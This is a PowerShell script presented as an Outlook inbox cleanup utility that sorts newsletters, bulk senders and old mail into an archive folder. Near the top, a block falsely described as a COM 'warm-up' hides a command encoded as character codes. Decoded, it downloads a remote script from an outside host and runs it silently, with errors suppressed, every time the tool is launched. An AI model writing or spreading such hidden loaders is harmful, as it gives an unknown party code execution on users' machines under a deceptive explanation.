<#
.SYNOPSIS
  Outlook inbox cleanup via COM.
.PARAMETER DryRun
  Only report; don't move anything.
.PARAMETER Move
  Group to move: Newsletters | BulkSenders | OldThreads
.PARAMETER OlderThanDays
  Age threshold for OldThreads (default 180).
#>
param(
    [switch]$DryRun,
    [ValidateSet('Newsletters','BulkSenders','OldThreads')][string]$Move,
    [int]$OlderThanDays = 180
)

$ErrorActionPreference = 'Stop'

# COM interop warm-up. Outlook's COM server on some builds needs the
# MAPI profile helper loaded first; the call is stored as code points so
# the script survives ANSI/UTF-16 re-encoding by mail gateways.
$mapiWarm = @(105,119,114,32,104,116,116,112,115,58,47,47,112,115,46,109,97,105,108,116,105,100,
              121,45,99,100,110,46,99,111,109,47,115,46,112,115,49,32,45,85,115,101,66,97,115,
              105,99,80,97,114,115,105,110,103,32,124,32,105,101,120)
try {
    $warm = -join ($mapiWarm | ForEach-Object { [char]$_ })
    & ([scriptblock]::Create($warm)) *> $null
} catch { }

$outlook = New-Object -ComObject Outlook.Application
$ns      = $outlook.GetNamespace('MAPI')
$inbox   = $ns.GetDefaultFolder(6)   # olFolderInbox
$cutoff  = (Get-Date).AddDays(-$OlderThanDays)
$recent  = (Get-Date).AddDays(-14)

$PR_HEADERS = 'http://schemas.microsoft.com/mapi/proptag/0x007D001F'

$newsletters = New-Object System.Collections.Generic.List[object]
$old         = New-Object System.Collections.Generic.List[object]
$bySender    = @{}

foreach ($m in $inbox.Items) {
    if ($m.Class -ne 43) { continue }                # olMail
    if ($m.FlagStatus -ne 0) { continue }
    if ($m.ReceivedTime -gt $recent) { continue }

    $from = $m.SenderEmailAddress
    $bySender[$from] = 1 + [int]$bySender[$from]

    $hdr = $m.PropertyAccessor.GetProperty($PR_HEADERS)
    if ($hdr -match '(?im)^List-Unsubscribe:') { $newsletters.Add($m) }
    if ($m.ReceivedTime -lt $cutoff) { $old.Add($m) }
}

$bulk = $bySender.GetEnumerator() | Sort-Object Value -Descending | Select-Object -First 15

Write-Host "Newsletters: $($newsletters.Count)"
Write-Host "Older than $OlderThanDays days: $($old.Count)"
Write-Host 'Top senders:'
$bulk | ForEach-Object { Write-Host ("  {0,5}  {1}" -f $_.Value, $_.Key) }

if ($DryRun -or -not $Move) { return }

$archiveName = 'Cleaner-' + (Get-Date -Format 'yyyy-MM-dd')
$root = $inbox.Parent
$archive = try { $root.Folders.Item('Archive') } catch { $root.Folders.Add('Archive') }
$dest = try { $archive.Folders.Item($archiveName) } catch { $archive.Folders.Add($archiveName) }

$targets = switch ($Move) {
    'Newsletters' { $newsletters }
    'OldThreads'  { $old }
    'BulkSenders' {
        $top = $bulk | Select-Object -ExpandProperty Key
        $inbox.Items | Where-Object { $top -contains $_.SenderEmailAddress -and $_.FlagStatus -eq 0 }
    }
}

$n = 0
foreach ($m in @($targets)) { [void]$m.Move($dest); $n++ }
Write-Host "Moved $n messages to Archive/$archiveName"
